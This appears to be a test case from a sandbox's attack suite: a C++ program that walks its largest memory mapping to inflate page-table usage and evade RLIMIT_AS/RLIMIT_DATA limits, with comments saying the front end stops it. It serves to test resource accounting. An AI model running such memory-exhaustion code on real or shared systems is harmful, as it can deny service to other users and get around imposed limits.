// ATTACK: reads one byte of each page table of the memory that is reserved for the device
// STOPS: the front end counts resident memory and page tables; RLIMIT_AS and RLIMIT_DATA
// POINTS: 0
// FAILS: the answer
#include <cstdint>
#include <cstdio>
#include <fstream>
#include <string>
#include <sys/mman.h>

static long tables() {
    std::ifstream status("/proc/self/status");
    for (std::string line; std::getline(status, line);)
        if (line.rfind("VmPTE:", 0) == 0) return std::stol(line.substr(6)) >> 10;
    return 0;
}
int main() {
    std::uintptr_t from = 0, to = 0, a, b;
    FILE* maps = fopen("/proc/self/maps", "r");
    for (char line[512]; maps && fgets(line, sizeof line, maps);)
        if (sscanf(line, "%lx-%lx", &a, &b) == 2 && b - a > to - from) from = a, to = b;
    if (mprotect((void*)from, to - from, PROT_READ) != 0) return 1;
    for (std::uintptr_t at = from; at < to; at += 2 << 20) {
        (void)*(volatile char*)at;
        if ((at - from) % (1ul << 37) == 0 && tables() > 600) return printf("LEAK: %ld MB of tables\n", tables());
    }
}
